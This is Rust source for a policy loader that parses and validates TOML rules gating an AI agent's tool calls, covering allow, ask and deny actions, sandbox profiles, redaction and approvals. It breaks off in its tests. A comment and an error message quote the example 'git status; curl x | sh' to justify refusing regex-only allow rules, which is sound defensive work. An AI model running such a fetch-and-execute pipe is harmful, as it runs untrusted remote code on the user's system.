//! Policy files: TOML in, a validated `Policy` out, or a one-line error
//! naming the file, the rule and the problem. Never a silent fallback.

use std::collections::HashMap;
use std::sync::{Mutex, OnceLock};

use regex::RegexSet;
use serde::Deserialize;

use crate::digest::{hex, sha256};

use super::commands::CommandMatcher;
use super::patterns::{Patterns, globs, non_empty_list};
use super::rule::{Rule, Scope};
use super::{Action, Policy, PolicyRef};
use crate::request::ToolRequest;

/// Why a policy could not be loaded.
#[derive(Debug, thiserror::Error)]
pub enum PolicyError {
    #[error("cannot read policy `{path}`: {source}")]
    Read {
        path: String,
        source: std::io::Error,
    },
    #[error("policy `{path}`: {problem}")]
    File { path: String, problem: String },
    #[error("policy `{path}`: rule `{rule}`: {problem}")]
    Rule {
        path: String,
        rule: String,
        problem: String,
    },
}

#[derive(Deserialize, Debug, PartialEq)]
#[serde(deny_unknown_fields)]
struct RuleFile {
    id: String,
    action: String,
    reason: String,
    tools: Option<Vec<String>>,
    path_scope: Option<String>,
    path_glob: Option<Vec<String>>,
    content_glob: Option<Vec<String>>,
    write_glob: Option<Vec<String>>,
    command_regex: Option<Vec<String>>,
    command_prefix: Option<Vec<Vec<String>>>,
    commands: Option<Vec<CommandFile>>,
    unprovable: Option<bool>,
    definition_changed: Option<bool>,
    args: Option<Vec<super::args::ArgFile>>,
    who: Option<super::who::WhoFile>,
    after: Option<Vec<String>>,
    not_after: Option<Vec<String>>,
    labelled: Option<Vec<String>>,
    labels: Option<Vec<String>>,
    approvers: Option<Vec<String>>,
    quorum: Option<u32>,
    factors: Option<Vec<String>>,
    sandbox: Option<String>,
    examples: Option<Vec<Example>>,
}

/// One entry of `commands`: conditions on one simple command.
#[derive(Deserialize, Debug, PartialEq)]
#[serde(deny_unknown_fields)]
struct CommandFile {
    prefix: Option<Vec<String>>,
    program: Option<Vec<String>>,
    flags: Option<Vec<Vec<String>>>,
    args: Option<Vec<String>>,
    subcommand: Option<Vec<String>>,
    redirect: Option<Vec<String>>,
    writes: Option<Vec<String>>,
}

fn prefix_matcher(prefix: Vec<String>) -> Result<CommandMatcher, String> {
    if prefix.is_empty() || prefix.iter().any(String::is_empty) {
        return Err("a `command_prefix` entry must be a non-empty list of non-empty words".into());
    }
    Ok(CommandMatcher {
        shown: prefix.join(" "),
        prefix: Some(prefix),
        program: None,
        flags: Vec::new(),
        args: None,
        subcommand: None,
        redirect: None,
        writes: None,
    })
}

fn command_matcher(spec: CommandFile) -> Result<CommandMatcher, String> {
    let mut shown = Vec::new();
    if let Some(prefix) = &spec.prefix {
        shown.push(format!("prefix {}", prefix.join(" ")));
    }
    if let Some(program) = &spec.program {
        shown.push(format!("program {}", program.join("|")));
    }
    for group in spec.flags.iter().flatten() {
        if group.is_empty() {
            return Err("a `flags` group must not be empty".into());
        }
        shown.push(format!("flag {}", group.join("|")));
    }
    if let Some(args) = &spec.args {
        shown.push(format!("arg {}", args.join("|")));
    }
    if let Some(subcommand) = &spec.subcommand {
        shown.push(format!("subcommand {}", subcommand.join("|")));
    }
    if let Some(redirect) = &spec.redirect {
        shown.push(format!("redirect {}", redirect.join("|")));
    }
    if let Some(writes) = &spec.writes {
        shown.push(format!("writes {}", writes.join("|")));
    }
    if shown.is_empty() {
        return Err(
            "a `commands` entry needs at least one of prefix, program, flags, args, subcommand, redirect, writes"
                .into(),
        );
    }
    Ok(CommandMatcher {
        prefix: spec.prefix,
        program: spec
            .program
            .map(|p| globs("commands.program", p, false))
            .transpose()?,
        flags: spec.flags.unwrap_or_default(),
        args: spec
            .args
            .map(|a| globs("commands.args", a, false))
            .transpose()?,
        subcommand: spec
            .subcommand
            .map(|s| globs("commands.subcommand", s, false))
            .transpose()?,
        redirect: spec
            .redirect
            .map(|r| globs("commands.redirect", r, false))
            .transpose()?,
        writes: spec
            .writes
            .map(|w| globs("commands.writes", w, false))
            .transpose()?,
        shown: shown.join(", "),
    })
}

/// An inline example: a request and whether the rule must match it.
#[derive(Deserialize, Debug, PartialEq)]
#[serde(deny_unknown_fields)]
struct Example {
    tool: String,
    #[serde(default = "empty_object")]
    arguments: serde_json::Value,
    matches: bool,
    facts: Option<crate::facts::Facts>,
    /// Labels earlier calls of the session set, for flow conditions.
    history: Option<Vec<String>>,
}

fn empty_object() -> serde_json::Value {
    serde_json::Value::Object(serde_json::Map::new())
}

/// Checks a rule's inline examples; the first that does not hold is the error.
fn check_examples(
    rule: &Rule,
    examples: Vec<Example>,
    paths: &[super::PathArguments],
    label_rules: &[Rule],
) -> Result<(), String> {
    for (index, example) in examples.into_iter().enumerate() {
        let request = ToolRequest::new("example", &example.tool, example.arguments);
        let facts = example.facts.unwrap_or_else(|| {
            let declared = super::declared_paths(paths, &request.name);
            crate::facts::lexical_facts_with(&request, &declared)
        });
        let mut history = super::History::default();
        history.add("earlier", &example.history.unwrap_or_default());
        let mut labels = Vec::new();
        for entry in label_rules {
            if entry.matches(&request, &facts, &super::At::none()).is_ok() {
                super::add_labels(&mut labels, &entry.labels);
            }
        }
        let at = super::At {
            who: None,
            history: &history,
            labels: &labels,
        };
        let outcome = rule.matches(&request, &facts, &at);
        let shown = format!(
            "example {} ({} {})",
            index + 1,
            request.name,
            request.arguments
        );
        match (example.matches, outcome) {
            (true, Err(miss)) => {
                return Err(format!(
                    "{shown} should match but does not: {}",
                    miss.describe(rule, &request, &facts, &at)
                ));
            }
            (false, Ok(_)) => return Err(format!("{shown} should not match but does")),
            _ => {}
        }
    }
    Ok(())
}

/// What `parse` checks beyond the policy's shape.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(super) enum Checks {
    /// Every glob compiles and every inline example holds.
    Now,
    /// Left for later: a policy is parsed on every call and the parse should
    /// cost as little as it can. Only for the built-in policy (a test checks
    /// it) and a policy whose text the log has recorded (it passed when it
    /// was first used, and its digest pins the text); `Policy::check_deferred`
    /// runs the checks for any other.
    Deferred,
}

/// One `[[paths]]` entry: which arguments of which tools are paths.
#[derive(Deserialize, Debug)]
#[serde(deny_unknown_fields)]
struct PathsFile {
    tools: Vec<String>,
    #[serde(default)]
    read: Vec<String>,
    #[serde(default)]
    write: Vec<String>,
    #[serde(default)]
    list: Vec<String>,
}

/// Compiles the `[[paths]]` entries: each needs tools and at least one argument.
fn path_arguments(specs: Vec<PathsFile>) -> Result<Vec<super::PathArguments>, String> {
    specs
        .into_iter()
        .enumerate()
        .map(|(index, spec)| {
            let at = |problem: &str| format!("[[paths]] #{}: {problem}", index + 1);
            if spec.tools.is_empty() {
                return Err(at("`tools` must name at least one tool"));
            }
            if spec.read.is_empty() && spec.write.is_empty() && spec.list.is_empty() {
                return Err(at(
                    "name at least one argument in `read`, `write` or `list`",
                ));
            }
            if spec
                .read
                .iter()
                .chain(&spec.write)
                .chain(&spec.list)
                .any(|a| a.is_empty())
            {
                return Err(at("an argument name must not be empty"));
            }
            Ok(super::PathArguments {
                tools: globs("tools", spec.tools, false).map_err(|e| at(&e))?,
                read: spec.read,
                write: spec.write,
                list: spec.list,
            })
        })
        .collect()
}

#[derive(Deserialize)]
#[serde(deny_unknown_fields)]
struct RedactFile {
    enabled: Option<bool>,
    patterns: Option<Vec<String>>,
    keep_tools: Option<Vec<String>>,
    keep_paths: Option<Vec<String>>,
}

/// The `[redact]` table: `enabled`, extra `patterns` (regexes, checked
/// here), and `keep_tools` and `keep_paths` whose calls are stored whole.
fn parse_redact(value: toml::Value) -> Result<super::RedactSettings, String> {
    let spec = RedactFile::deserialize(value).map_err(|e| format!("[redact]: {}", e.message()))?;
    redact_settings(spec)
}

fn redact_settings(spec: RedactFile) -> Result<super::RedactSettings, String> {
    let patterns = spec.patterns.unwrap_or_default();
    for pattern in &patterns {
        regex::Regex::new(pattern)
            .map_err(|e| format!("[redact]: pattern `{pattern}` is not a valid regex: {e}"))?;
    }
    let keep_paths = spec.keep_paths.unwrap_or_default();
    for glob in &keep_paths {
        globset::Glob::new(glob)
            .map_err(|e| format!("[redact]: keep_paths glob `{glob}` is not valid: {e}"))?;
    }
    Ok(super::RedactSettings {
        enabled: spec.enabled.unwrap_or(true),
        patterns,
        keep_tools: spec.keep_tools.unwrap_or_default(),
        keep_paths,
    })
}

/// A policy file's name, its rules (each labelled by its id, else its
/// place, and read or the reason it could not be), its `[redact]` table and
/// its `[[shadow]]` entries.
type Read = (
    String,
    Vec<(String, Result<RuleFile, String>)>,
    super::RedactSettings,
    Vec<ShadowSpec>,
    Vec<PathsFile>,
    Approval,
    SandboxFile,
    Vec<toml::Table>,
);

/// The `[sandbox]` table: named profiles for allow rules' `sandbox = "NAME"`.
#[derive(Deserialize, Debug, Default)]
#[serde(deny_unknown_fields)]
pub(super) struct SandboxFile {
    #[serde(default)]
    profiles: std::collections::BTreeMap<String, ProfileFile>,
    /// What an allow whose sandbox the kernel cannot enforce becomes:
    /// `ask` (the default) or `deny`.
    unenforceable: Option<super::Action>,
}

/// One `[sandbox.profiles.NAME]`: paths added to its base's.
#[derive(Deserialize, Debug)]
#[serde(deny_unknown_fields)]
struct ProfileFile {
    /// `read-only` (default), `workspace-write` or `none`.
    base: Option<String>,
    #[serde(default)]
    read: Vec<String>,
    #[serde(default)]
    write: Vec<String>,
    #[serde(default)]
    exec: Vec<String>,
    network: Option<bool>,
}

/// The profiles of a `[sandbox]` table, each expanded over its base.
fn sandbox_profiles(
    file: &mut SandboxFile,
) -> Result<std::collections::BTreeMap<String, crate::sandbox::Spec>, String> {
    use crate::sandbox::Spec;
    let mut out = std::collections::BTreeMap::new();
    for (name, profile) in std::mem::take(&mut file.profiles) {
        if Spec::builtin(&name).is_some() {
            return Err(format!(
                "[sandbox.profiles.{name}]: `{name}` is built in and cannot be redefined"
            ));
        }
        let base = match profile.base.as_deref().unwrap_or(crate::sandbox::READ_ONLY) {
            "none" => Spec {
                exec: Vec::new(),
                network: false,
                read: Vec::new(),
                write: Vec::new(),
            },
            other => Spec::builtin(other).ok_or_else(|| {
                format!(
                    "[sandbox.profiles.{name}]: unknown base `{other}` (read-only, workspace-write or none)"
                )
            })?,
        };
        let mut spec = base;
        spec.read.extend(profile.read);
        spec.write.extend(profile.write);
        spec.exec.extend(profile.exec);
        spec.network = profile.network.unwrap_or(spec.network);
        let spec = spec.normalized();
        spec.validate(&name).map_err(|e| e.to_string())?;
        out.insert(name, spec);
    }
    Ok(out)
}

/// A `[[shadow]]` entry: a policy decided beside this one on every live
/// call, never enforced. `path` is relative to this policy's folder.
#[derive(Deserialize, Debug, Clone, PartialEq, Eq)]
#[serde(deny_unknown_fields)]
pub struct ShadowSpec {
    pub name: String,
    pub path: String,
}

fn check_shadows(shadows: &[ShadowSpec]) -> Result<(), String> {
    for (i, shadow) in shadows.iter().enumerate() {
        if shadow.name.trim().is_empty() || shadow.name.chars().any(char::is_whitespace) {
            return Err("a `[[shadow]]` needs a `name` without spaces".into());
        }
        if shadow.path.trim().is_empty() {
            return Err(format!("shadow `{}` needs a `path`", shadow.name));
        }
        if shadows[..i].iter().any(|s| s.name == shadow.name) {
            return Err(format!("two shadows are named `{}`", shadow.name));
        }
    }
    Ok(())
}

/// The `[approval]` table: `wait`, how long an asked call waits in the
/// pending queue when no `--ask` says otherwise, and `[approval.notify]`,
/// where a waiting call is announced.
#[derive(Debug, Deserialize)]
#[serde(deny_unknown_fields)]
struct ApprovalFile {
    wait: Option<String>,
    /// Read apart, so that its problems are named `[approval.notify]`.
    notify: Option<toml::Value>,
}

/// The `[approval]` table, read.
#[derive(Debug, Default)]
struct Approval {
    wait: Option<std::time::Duration>,
    notify: Option<super::Notify>,
}

fn read_approval(spec: ApprovalFile) -> Result<Approval, String> {
    let wait = match spec.wait {
        Some(wait) => Some(super::parse_wait(&wait).map_err(|e| format!("[approval]: wait {e}"))?),
        None => None,
    };
    let notify = match spec.notify {
        Some(value) => {
            let problem = |e: String| format!("[approval.notify]: {e}");
            let spec = super::notify::NotifyFile::deserialize(value)
                .map_err(|e| problem(e.message().to_owned()))?;
            Some(super::Notify::from_file(spec).map_err(problem)?)
        }
        None => None,
    };
    Ok(Approval { wait, notify })
}

/// The whole file as one typed value. A file this reads is read exactly as
/// [`read_table`] reads it, only faster (no table of values in between:
/// about a tenth of the built-in policy's read); any problem and it returns
/// `None`, and `read_table` finds and names it.
fn read_typed(text: &str) -> Option<Read> {
    #[derive(Deserialize)]
    #[serde(deny_unknown_fields)]
    struct PolicyFile {
        name: String,
        #[serde(rename = "description")]
        _description: Option<String>,
        #[serde(default)]
        rules: Vec<RuleFile>,
        redact: Option<RedactFile>,
        approval: Option<ApprovalFile>,
        #[serde(default)]
        shadow: Vec<ShadowSpec>,
        #[serde(default)]
        paths: Vec<PathsFile>,
        #[serde(default)]
        sandbox: SandboxFile,
        #[serde(default)]
        labels: Vec<toml::Table>,
    }
    let file: PolicyFile = toml::from_str(text).ok()?;
    check_shadows(&file.shadow).ok()?;
    if file.name.trim().is_empty() {
        return None;
    }
    let redact = match file.redact {
        Some(spec) => redact_settings(spec).ok()?,
        None => super::RedactSettings::default(),
    };
    let rules = file
        .rules
        .into_iter()
        .map(|rule| (rule.id.clone(), Ok(rule)))
        .collect();
    let approval = match file.approval {
        Some(spec) => read_approval(spec).ok()?,
        None => Approval::default(),
    };
    Some((
        file.name,
        rules,
        redact,
        file.shadow,
        file.paths,
        approval,
        file.sandbox,
        file.labels,
    ))
}

/// The file read key by key, naming the first problem.
fn read_table(text: &str, file_error: &dyn Fn(String) -> PolicyError) -> Result<Read, PolicyError> {
    let table: toml::Table = text.parse().map_err(|err: toml::de::Error| {
        let line = err
            .span()
            .map(|span| text[..span.start.min(text.len())].lines().count().max(1));
        let message = err.message().replace('\n', " ");
        file_error(match line {
            Some(line) => format!("line {line}: {message}"),
            None => message,
        })
    })?;

    let mut name = None;
    let mut raw_rules = Vec::new();
    let mut redact = super::RedactSettings::default();
    let mut approval = Approval::default();
    let mut shadows = Vec::new();
    let mut paths = Vec::new();
    let mut sandbox = SandboxFile::default();
    let mut labels = Vec::new();
    for (key, value) in table {
        match (key.as_str(), value) {
            ("name", toml::Value::String(s)) if !s.trim().is_empty() => name = Some(s),
            ("name", _) => return Err(file_error("`name` must be a non-empty string".into())),
            ("description", toml::Value::String(_)) => {}
            ("rules", toml::Value::Array(rules)) => raw_rules = rules,
            ("rules", _) => return Err(file_error("`rules` must be an array of tables".into())),
            ("redact", value) => redact = parse_redact(value).map_err(file_error)?,
            ("approval", value) => {
                let spec = ApprovalFile::deserialize(value)
                    .map_err(|e| file_error(format!("[approval]: {}", e.message())))?;
                approval = read_approval(spec).map_err(file_error)?;
            }
            ("shadow", value) => {
                shadows = Vec::<ShadowSpec>::deserialize(value)
                    .map_err(|e| file_error(format!("[[shadow]]: {}", e.message())))?;
                check_shadows(&shadows).map_err(file_error)?;
            }
            ("paths", value) => {
                paths = Vec::<PathsFile>::deserialize(value)
                    .map_err(|e| file_error(format!("[[paths]]: {}", e.message())))?;
            }
            ("sandbox", value) => {
                sandbox = SandboxFile::deserialize(value)
                    .map_err(|e| file_error(format!("[sandbox]: {}", e.message())))?;
            }
            ("labels", value) => {
                labels = Vec::<toml::Table>::deserialize(value).map_err(|e| {
                    file_error(format!("[[labels]]: must be tables: {}", e.message()))
                })?;
            }
            (other, _) => return Err(file_error(format!("unknown key `{other}`"))),
        }
    }
    let name = name.ok_or_else(|| file_error("missing `name`".into()))?;
    let rules = raw_rules
        .into_iter()
        .enumerate()
        .map(|(index, raw)| {
            let label = raw
                .get("id")
                .and_then(toml::Value::as_str)
                .map_or_else(|| format!("#{}", index + 1), str::to_owned);
            let spec = RuleFile::deserialize(raw).map_err(|e| e.message().to_owned());
            (label, spec)
        })
        .collect();
    Ok((
        name, rules, redact, shadows, paths, approval, sandbox, labels,
    ))
}

/// The line (from 1) where each rule of a policy's text begins (its
/// `[[rules]]` header, or its inline table), by rule id; the first rule of
/// an id wins. Empty when the text does not parse: a policy that loaded
/// always does. Read apart from the load, which does not keep spans: only
/// reports that point into the file (`gavel::ci`) ask for it.
pub fn rule_lines(text: &str) -> HashMap<String, usize> {
    #[derive(Deserialize)]
    struct RuleId {
        id: String,
    }
    #[derive(Deserialize)]
    struct Rules {
        #[serde(default)]
        rules: Vec<toml::Spanned<RuleId>>,
    }
    let Ok(file) = toml::from_str::<Rules>(text) else {
        return HashMap::new();
    };
    let mut lines = HashMap::new();
    for rule in file.rules {
        let start = rule.span().start.min(text.len());
        let line = text[..start].matches('\n').count() + 1;
        lines.entry(rule.into_inner().id).or_insert(line);
    }
    lines
}

/// A parse's key: the text, the origin its errors name, whether checked now.
type ParseKey = (String, String, bool);

/// Parses kept by text, once a resident process asked for them.
static MEMO: OnceLock<Mutex<HashMap<ParseKey, Policy>>> = OnceLock::new();

/// How many parses the memo keeps before it starts over: a long-lived
/// process whose policy files keep changing must not grow without bound.
const MEMO_SIZE: usize = 64;

/// Makes every later parse of a text this process parsed before a clone of
/// that parse. For a process that reads the same policy files on every call
/// (`gavel serve --socket`): the files are still read, and the layers'
/// ownership and modes still checked, each time; only their TOML is not
/// parsed again. Parsing is a pure function of the text, the origin named
/// in errors and the checks asked for, which together are the key.
pub fn memoize_parses() {
    MEMO.get_or_init(Mutex::default);
}

pub(super) fn parse(text: &str, origin: &str, checks: Checks) -> Result<Policy, PolicyError> {
    if checks == Checks::Deferred
        && let Some(lean) = compiled_in_lean(text)
    {
        return parse_text(lean, text, origin, checks);
    }
    let Some(memo) = MEMO.get() else {
        return parse_text(text, text, origin, checks);
    };
    let key = (text.to_owned(), origin.to_owned(), checks == Checks::Now);
    if let Some(kept) = memo.lock().ok().and_then(|m| m.get(&key).cloned()) {
        return Ok(kept);
    }
    let policy = parse_text(text, text, origin, checks)?;
    if let Ok(mut memo) = memo.lock() {
        if memo.len() >= MEMO_SIZE {
            memo.clear();
        }
        memo.insert(key, policy.clone());
    }
    Ok(policy)
}

/// A text gavel carries (the floor, the presets, which `gavel init`
/// writes unchanged as a project's policy), as read when its examples are
/// not checked: without comments and examples, a third of its size. The
/// same rules, read in a third of the time (`lean_texts_read_as_their_own`).
fn compiled_in_lean(text: &str) -> Option<&'static str> {
    static LEAN: OnceLock<Vec<(&'static str, String)>> = OnceLock::new();
    let carried = [
        super::FLOOR_POLICY_TOML,
        super::DEFAULT_POLICY_TOML,
        super::CODING_AGENT_POLICY_TOML,
    ];
    if !carried.iter().any(|c| c.len() == text.len() && *c == text) {
        return None;
    }
    let lean = LEAN.get_or_init(|| carried.iter().map(|c| (*c, without_examples(c))).collect());
    lean.iter()
        .find(|(full, _)| *full == text)
        .map(|(_, lean)| lean.as_str())
}

/// `text` without its comment lines and its `examples = [ ... ]` blocks,
/// as gavel's own policy files write them (an opening line, then a line
/// holding only `]`).
fn without_examples(text: &str) -> String {
    let mut lean = String::with_capacity(text.len() / 2);
    let mut in_examples = false;
    for line in text.lines() {
        let line = line.trim();
        if in_examples {
            in_examples = line != "]";
        } else if line == "examples = [" {
            in_examples = true;
        } else if !line.starts_with('#') && !line.is_empty() {
            lean.push_str(line);
            lean.push('\n');
        }
    }
    lean
}

/// Reads `read` (the text, or [`compiled_in_lean`]'s reading of it) as the
/// policy `text`, whose digest and source the policy carries.
fn parse_text(read: &str, text: &str, origin: &str, checks: Checks) -> Result<Policy, PolicyError> {
    let file_error = |problem: String| PolicyError::File {
        path: origin.to_owned(),
        problem,
    };
    let (name, specs, redact, shadow_specs, paths, approval, mut sandbox, label_specs) =
        match read_typed(read) {
            Some(read) => read,
            None => read_table(read, &file_error)?,
        };
    let profiles = sandbox_profiles(&mut sandbox).map_err(file_error)?;
    let unenforceable = match sandbox.unenforceable {
        None | Some(super::Action::Ask) => super::Action::Ask,
        Some(super::Action::Deny) => super::Action::Deny,
        Some(super::Action::Allow) => {
            return Err(file_error(
                "[sandbox] unenforceable: `allow` would run a command uncontained where its rule relies on a sandbox; `ask` or `deny`".into(),
            ));
        }
    };
    let paths = path_arguments(paths).map_err(file_error)?;
    if checks == Checks::Now {
        for (index, entry) in paths.iter().enumerate() {
            entry
                .tools
                .check()
                .map_err(|e| file_error(format!("[[paths]] #{}: {e}", index + 1)))?;
        }
    }

    let mut label_rules: Vec<Rule> = Vec::with_capacity(label_specs.len());
    for (index, table) in label_specs.into_iter().enumerate() {
        let (rule, examples) = label_entry(table)
            .map_err(|problem| file_error(format!("[[labels]] #{}: {problem}", index + 1)))?;
        let entry_error = |problem: String| PolicyError::Rule {
            path: origin.to_owned(),
            rule: rule.id.clone(),
            problem,
        };
        if checks == Checks::Now {
            rule.check_globs().map_err(&entry_error)?;
            if let Some(examples) = examples {
                check_examples(&rule, examples, &paths, &[]).map_err(&entry_error)?;
            }
        }
        if label_rules.iter().any(|r| r.id == rule.id) {
            return Err(entry_error("duplicate [[labels]] id".into()));
        }
        label_rules.push(rule);
    }

    let mut rules: Vec<Rule> = Vec::with_capacity(specs.len());
    for (label, spec) in specs {
        let rule_error = |problem: String| PolicyError::Rule {
            path: origin.to_owned(),
            rule: label.clone(),
            problem,
        };
        let mut spec = spec.map_err(rule_error)?;
        let examples = spec.examples.take();
        let rule = compile(spec).map_err(&rule_error)?;
        if checks == Checks::Now {
            rule.check_globs().map_err(&rule_error)?;
        }
        refuse_text_only_shell_allow(&rule).map_err(&rule_error)?;
        check_sandbox(&rule, &profiles).map_err(&rule_error)?;
        let mut rule = rule;
        rule.held = rule.sandbox.as_ref().map(|name| {
            let spec = crate::sandbox::Spec::builtin(name).or_else(|| profiles.get(name).cloned());
            match spec {
                Some(spec) if !spec.write.is_empty() => super::commands::Held::Writes,
                _ => super::commands::Held::ReadOnly,
            }
        });
        if let Some(examples) = examples.filter(|_| checks == Checks::Now) {
            check_examples(&rule, examples, &paths, &label_rules).map_err(&rule_error)?;
        }
        if rules.iter().chain(&label_rules).any(|r| r.id == rule.id) {
            return Err(rule_error("duplicate rule id".into()));
        }
        if rule.reason.contains("{after}") && rule.flow.as_ref().is_none_or(|f| f.after.is_empty())
        {
            return Err(rule_error(
                "`{after}` names the earlier call an `after` condition relied on, and this rule has none"
                    .into(),
            ));
        }
        rules.push(rule);
    }

    Ok(Policy {
        reference: PolicyRef {
            name,
            digest: hex(&sha256(text.as_bytes())),
        },
        source: text.to_owned(),
        origin: origin.to_owned(),
        checked: checks == Checks::Now,
        rules,
        redact,
        paths,
        above: Vec::new(),
        shadow_specs,
        shadows: Vec::new(),
        approval_wait: approval.wait,
        approval_notify: approval.notify,
        profiles,
        unenforceable,
        label_rules,
    })
}

/// A `[[labels]]` entry: a rule's conditions and `labels`, no action.
/// Compiled as a deny, whose conditions hold when any path or command meets
/// them, and checked to carry neither a flow condition nor a sandbox.
fn label_entry(mut table: toml::Table) -> Result<(Rule, Option<Vec<Example>>), String> {
    for key in [
        "action",
        "reason",
        "sandbox",
        "after",
        "not_after",
        "labelled",
    ] {
        if table.contains_key(key) {
            return Err(format!(
                "`{key}` is not for a [[labels]] entry (it labels calls; rules decide them)"
            ));
        }
    }
    table.insert("action".into(), "deny".into());
    table.insert("reason".into(), "label".into());
    let mut spec = RuleFile::deserialize(table).map_err(|e| e.message().to_owned())?;
    if spec.labels.as_ref().is_none_or(Vec::is_empty) {
        return Err(format!(
            "entry `{}` needs `labels`, the labels it gives",
            spec.id
        ));
    }
    let examples = spec.examples.take();
    // Who must approve an asked call that carries these labels.
    let approvers = super::Approvers::from_file(
        spec.approvers.take(),
        spec.quorum.take(),
        spec.factors.take(),
        Action::Ask,
    )?;
    let mut rule = compile(spec)?;
    rule.approvers = approvers;
    Ok((rule, examples))
}

/// `sandbox = "NAME"`: only on an allow rule, naming a built-in profile or
/// one of the policy's own.
fn check_sandbox(
    rule: &Rule,
    profiles: &std::collections::BTreeMap<String, crate::sandbox::Spec>,
) -> Result<(), String> {
    let Some(name) = &rule.sandbox else {
        return Ok(());
    };
    if rule.action != Action::Allow {
        return Err(format!(
            "`sandbox = \"{name}\"` is only for allow rules (what an ask or deny runs is not contained by it)"
        ));
    }
    if crate::sandbox::Spec::builtin(name).is_none() && !profiles.contains_key(name) {
        let mut known: Vec<&str> = vec![crate::sandbox::READ_ONLY, crate::sandbox::WORKSPACE_WRITE];
        known.extend(profiles.keys().map(String::as_str));
        return Err(format!(
            "unknown sandbox profile `{name}` (known: {})",
            known.join(", ")
        ));
    }
    Ok(())
}

/// An `allow` rule that can apply to `bash` must judge its parsed commands:
/// a regex on the text, or a path condition on its redirections, would let
/// `git status; curl x | sh` through.
fn refuse_text_only_shell_allow(rule: &Rule) -> Result<(), String> {
    let applies_to_bash = rule.tools.as_ref().is_none_or(|t| t.is_match("bash"));
    let judges_text = rule.command_regex.is_some()
        || rule.path_scope.is_some()
        || rule.path_glob.is_some()
        || rule.content_glob.is_some()
        || rule.write_glob.is_some();
    let judges_commands = rule.command_prefix.is_some() || rule.commands.is_some();
    if rule.action == Action::Allow && applies_to_bash && judges_text && !judges_commands {
        return Err(
            "an allow rule that applies to `bash` cannot judge it by `command_regex` or path conditions alone \
             (`git status; curl x | sh` would pass); add `command_prefix` or `commands`, or leave `bash` out of `tools`"
                .into(),
        );
    }
    Ok(())
}

/// The placeholders a rule's `reason` may use.
pub const PLACEHOLDERS: [&str; 6] = [
    "tool",
    "command",
    "path",
    "workspace",
    "unprovable",
    "after",
];

/// Refuses a `{name}` in `reason` that is not a placeholder: it would be
/// printed literally. Braces around anything else (`{a, b}`) are text.
fn check_placeholders(reason: &str) -> Result<(), String> {
    let mut rest = reason;
    while let Some(open) = rest.find('{') {
        rest = &rest[open + 1..];
        let Some(close) = rest.find('}') else { break };
        let name = &rest[..close];
        let is_name = name
            .chars()
            .next()
            .is_some_and(|c| c.is_ascii_alphabetic() || c == '_')
            && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_');
        if is_name && !PLACEHOLDERS.contains(&name) {
            let known: Vec<String> = PLACEHOLDERS.iter().map(|p| format!("`{{{p}}}`")).collect();
            return Err(format!(
                "unknown placeholder `{{{name}}}` in `reason` (known: {})",
                known.join(", ")
            ));
        }
    }
    Ok(())
}

fn compile(spec: RuleFile) -> Result<Rule, String> {
    if spec.id.trim().is_empty() || spec.id.chars().any(char::is_whitespace) {
        return Err("`id` must be non-empty and without spaces".into());
    }
    check_placeholders(&spec.reason)?;
    let action = Action::parse(&spec.action)
        .ok_or_else(|| format!("unknown action `{}` (allow | ask | deny)", spec.action))?;
    let path_scope = match spec.path_scope.as_deref() {
        None => None,
        Some("inside") => Some(Scope::Inside),
        Some("outside") => Some(Scope::Outside),
        Some(other) => return Err(format!("unknown path_scope `{other}` (inside | outside)")),
    };
    Ok(Rule {
        id: spec.id,
        action,
        reason: spec.reason,
        tools: spec.tools.map(|t| globs("tools", t, false)).transpose()?,
        path_scope,
        path_glob: spec
            .path_glob
            .map(|g| globs("path_glob", g, true))
            .transpose()?,
        content_glob: spec
            .content_glob
            .map(|g| globs("content_glob", g, true))
            .transpose()?,
        write_glob: spec
            .write_glob
            .map(|g| globs("write_glob", g, true))
            .transpose()?,
        command_regex: spec.command_regex.map(regexes).transpose()?,
        command_prefix: spec
            .command_prefix
            .map(|list| {
                non_empty_list("command_prefix", &list)?;
                list.into_iter()
                    .map(prefix_matcher)
                    .collect::<Result<Vec<_>, _>>()
            })
            .transpose()?,
        commands: spec
            .commands
            .map(|list| {
                non_empty_list("commands", &list)?;
                list.into_iter()
                    .map(command_matcher)
                    .collect::<Result<Vec<_>, _>>()
            })
            .transpose()?,
        unprovable: spec.unprovable,
        definition_changed: spec.definition_changed,
        args: spec
            .args
            .map(|list| {
                non_empty_list("args", &list)?;
                list.into_iter()
                    .map(super::args::ArgCondition::from_file)
                    .collect::<Result<Vec<_>, _>>()
            })
            .transpose()?,
        who: spec
            .who
            .map(super::who::WhoCondition::from_file)
            .transpose()?,
        flow: super::flow::FlowCondition::from_file(spec.after, spec.not_after, spec.labelled)?,
        labels: match spec.labels {
            Some(labels) => {
                non_empty_list("labels", &labels)?;
                super::flow::check_labels("labels", &labels)?;
                labels
            }
            None => Vec::new(),
        },
        approvers: super::Approvers::from_file(spec.approvers, spec.quorum, spec.factors, action)?,
        sandbox: spec.sandbox,
        held: None,
    })
}

fn regexes(written: Vec<String>) -> Result<Patterns<RegexSet>, String> {
    non_empty_list("command_regex", &written)?;
    for pattern in &written {
        regex::Regex::new(pattern).map_err(|e| {
            let first = e.to_string();
            let last = first.lines().last().unwrap_or("").trim().to_owned();
            format!("invalid regex `{pattern}` in `command_regex`: {last}")
        })?;
    }
    let compiled = RegexSet::new(&written).map_err(|e| format!("invalid `command_regex`: {e}"))?;
    Ok(Patterns { written, compiled })
}

#[cfg(test)]
mod tests {
    use super::{Checks, compiled_in_lean, parse_text, read_table, read_typed};

    /// Every policy the project ships or tests with, and a few edge cases.
    fn texts() -> Vec<(String, String)> {
        let mut texts = vec![
            (
                "default".to_owned(),
                super::super::DEFAULT_POLICY_TOML.to_owned(),
            ),
            (
                "coding-agent".to_owned(),
                super::super::CODING_AGENT_POLICY_TOML.to_owned(),
            ),
            ("no rules".to_owned(), "name = \"x\"".to_owned()),
            (
                "a shadow".to_owned(),
                "name = \"x\"\n[[shadow]]\nname = \"next\"\npath = \"next.toml\"\n".to_owned(),
            ),
            (
                "two shadows of one name".to_owned(),
                "name = \"x\"\n[[shadow]]\nname = \"n\"\npath = \"a\"\n[[shadow]]\nname = \"n\"\npath = \"b\"\n".to_owned(),
            ),
            (
                "a shadow without a path".to_owned(),
                "name = \"x\"\n[[shadow]]\nname = \"n\"\n".to_owned(),
            ),
            ("blank name".to_owned(), "name = \" \"".to_owned()),
            (
                "numeric description".to_owned(),
                "name = \"x\"\ndescription = 1".to_owned(),
            ),
            (
                "rules a table".to_owned(),
                "name = \"x\"\n[rules]\nid = \"a\"".to_owned(),
            ),
            (
